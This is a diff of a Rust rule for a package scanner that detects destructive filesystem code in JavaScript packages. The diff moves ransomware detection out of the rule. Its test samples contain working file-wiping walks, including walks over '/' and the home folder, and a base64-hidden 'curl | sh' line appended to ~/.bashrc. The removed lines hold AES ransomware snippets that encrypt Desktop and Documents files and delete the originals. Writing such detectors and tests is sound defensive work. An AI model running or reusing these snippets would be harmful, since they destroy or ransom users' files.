@@ -11,9 +11,8 @@ crate::declare_rule! {
     /// near the walk) or the installing project or the home folder (with one fixed text and no
     /// file read first), a planted command (`shutdown -h`, `rm -rf`, a `curl`/`wget` download, a
     /// pipe into `sh`) written to a shell rc file with the file's path and the command around
-    /// the write, a time bomb: after a fixed date, emptying every file a recursive walk finds, and
-    /// ransomware: a walk of the user's folders (or of files of document types the code lists)
-    /// that encrypts each file and removes the original.
+    /// the write, and a time bomb: after a fixed date, emptying every file a recursive walk
+    /// finds. Encrypting the user's files is `ransomware`.
     id: "destructive-fs",
     category: Other,
     severity: High,
@@ -28,9 +27,7 @@ crate::declare_rule! {
            "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
            "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
            "const { readdir, writeFile } = require('fs/promises'); const MSG = 'Peace.'; async function w(d) { for (const e of await readdir(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) await w(p); else await writeFile(p, MSG) } } w(os.homedir())",
-           "const NOTE = 'No war.'; const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else if (/\\.(js|json)$/.test(e.name)) fs.writeFileSync(p, NOTE) } }; w(process.env.INIT_CWD || process.cwd())",
-           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction lock(key) { for (const dir of ['Desktop', 'Documents']) for (const p of list(path.join(os.homedir(), dir), [])) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }",
-           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nconst walk = (d) => fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]);\nfunction lock(key, iv) { for (const f of walk(path.join(os.homedir(), 'Pictures')).concat(walk(path.join(os.homedir(), 'Desktop')))) { const data = fs.readFileSync(f); const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(f, Buffer.concat([c.update(data), c.final()])) } }"],
+           "const NOTE = 'No war.'; const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else if (/\\.(js|json)$/.test(e.name)) fs.writeFileSync(p, NOTE) } }; w(process.env.INIT_CWD || process.cwd())"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
            "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
            // a codemod reads every file it rewrites; a scaffolder drops empty placeholders
@@ -38,9 +35,7 @@ crate::declare_rule! {
            "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) { fs.writeFileSync(path.join(p, '.gitkeep'), ''); w(p) } } }; w(process.cwd())",
            // vite 5.2.10: lists directories in one function, writes a fixed package.json into
            // its cache in another, and names '..' elsewhere; no walk overwrites anything
-           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine",
-           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction stamp(key) { for (const p of list(path.join(os.homedir(), 'Documents'), [])) { const h = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex'); const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'index.enc'), c.update(h)) } }",
-           "const fs = require('fs'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nexports.seal = (dir, key) => { for (const p of list(dir, [])) { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
+           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
 }
 
 /// How far (in bytes) before and after a write to a shell start-up file its path and the
@@ -116,16 +111,6 @@ fn check(pkg: &Package, out: &mut Emitter) {
     let rc = crate::regex!(r"\.(bashrc|zshrc|bash_profile|profile)\b");
     for f in code_files(pkg) {
         if is_doc_path(&f.path) {
-            continue;
-        }
-        if let Some((off, what)) = encrypts_user_files(f) {
-            out.hit_sev(
-                Severity::Critical,
-                pkg,
-                f,
-                off,
-                format!("walks {what}, encrypts each file and removes the original (ransomware)"),
-            );
             continue;
         }
         if !crate::mentions!(
@@ -318,7 +303,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
 #[cfg(test)]
 mod rc_tests {
     use crate::model::Severity;
-    use crate::rules::testing::run;
+    use crate::rules::testing::{first_severity, run};
 
     /// A CLI bundle that appends its completion line to ~/.zshrc on request, and far away in
     /// other modules names `curl` (a MIME table) and `options.profile` (@codspeed/core 5.7.1,
@@ -344,12 +329,8 @@ mod rc_tests {
             const rc = os.homedir() + '/.bashrc';\n\
             const line = Buffer.from('Y3VybCAtcyBodHRwczovL2guZXhhbXBsZS94IHwgc2g=', 'base64').toString();\n\
             fs.appendFileSync(rc, '\\n' + line + '\\n');\n";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Critical),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
+        assert_eq!(severity, Some(Severity::Critical), "{hits}");
     }
 }
 
@@ -377,88 +358,4 @@ mod bundle_tests {
         );
         assert!(!run(&super::RULE, "dist/chunk.js", &src).is_empty());
     }
-}
-
-/// Ransomware: a recursive walk of the user's own folders (the home directory's Documents,
-/// Desktop, Pictures…, or every file with a document, image, database or key extension from a
-/// list written in the code) where one function encrypts each file's content
-/// (`createCipheriv`, WebCrypto `encrypt`), writes the result and removes, renames away or
-/// overwrites the original. Encryption tools and backup programs encrypt what their user names and keep the
-/// original, or write an archive elsewhere: the deletion beside the cipher in a walk over
-/// folders the code chose is what makes the files hostage. `(offset, what is walked)`.
-fn encrypts_user_files(f: &crate::package::FileCtx) -> Option<(u32, &'static str)> {
-    let text = f.text.as_str();
-    if !crate::mentions!(text, ["createCipher", "subtle.encrypt"]) {
-        return None;
-    }
-    let js = f.js.as_ref()?;
-    let walks = js.calls.iter().any(|c| {
-        let m = c.path.rsplit('.').next().unwrap_or("");
-        m.starts_with("readdir") && c.path.contains("fs")
-    }) && (text.contains("isDirectory") || text.contains("withFileTypes"));
-    if !walks {
-        return None;
-    }
-    let method = |p: &str| p.rsplit('.').next().unwrap_or("").to_string();
-    let ciphers: Vec<u32> = js
-        .calls
-        .iter()
-        .filter(|c| {
-            let m = method(&c.path);
-            m.starts_with("createCipher") || c.path.ends_with("subtle.encrypt")
-        })
-        .map(|c| c.off)
-        .collect();
-    let removes = |c: &crate::js::Call| {
-        c.path.contains("fs")
-            && matches!(
-                method(&c.path).as_str(),
-                "rm" | "rmSync" | "unlink" | "unlinkSync" | "rename" | "renameSync"
-            )
-    };
-    let scope_has = |sc: Option<(u32, u32)>, pred: &dyn Fn(&crate::js::Call) -> bool| {
-        js.calls.iter().any(|c| pred(c) && js.scope_of(c.off) == sc)
-    };
-    // The original overwritten with its ciphertext: `writeFile(p, …)` of the path the same
-    // function read (`readFile(p)`).
-    let in_place = |sc: Option<(u32, u32)>| {
-        let body = match sc {
-            Some((s, e)) => text
-                .get(s as usize..(e as usize).min(text.len()))
-                .unwrap_or(""),
-            None => text,
-        };
-        let read = crate::regex!(r"\breadFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*[,)]");
-        let write = crate::regex!(r"\bwriteFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*,");
-        let reads: Vec<&str> = read
-            .captures_iter(body)
-            .take(16)
-            .filter_map(|c| c.get(1).map(|m| m.as_str()))
-            .collect();
-        write
-            .captures_iter(body)
-            .take(16)
-            .filter_map(|c| c.get(1))
-            .any(|m| reads.contains(&m.as_str()))
-    };
-    let hit = ciphers.iter().copied().find(|&o| {
-        let sc = js.scope_of(o);
-        scope_has(sc, &|c| {
-            crate::rules::is_file_write(&c.path) || method(&c.path) == "writeFile"
-        }) && (scope_has(sc, &removes) || in_place(sc))
-    })?;
-    let folders = ["Documents", "Desktop", "Pictures", "Downloads", "OneDrive"]
-        .iter()
-        .filter(|d| text.contains(*d))
-        .count();
-    let home =
-        text.contains("homedir") || text.contains("USERPROFILE") || text.contains("env.HOME");
-    if home && folders >= 2 {
-        return Some((hit, "the user's folders"));
-    }
-    let exts = crate::regex!(
-        r#"['"`]\.?(?:docx?|xlsx?|pptx?|pdf|jpe?g|png|sql|sqlite|csv|pem|key|kdbx|psd|zip|txt|odt|mdb|wallet|dat)['"`]"#
-    );
-    (exts.find_iter(text).take(8).count() >= 6)
-        .then_some((hit, "files of the user's document types"))
 }
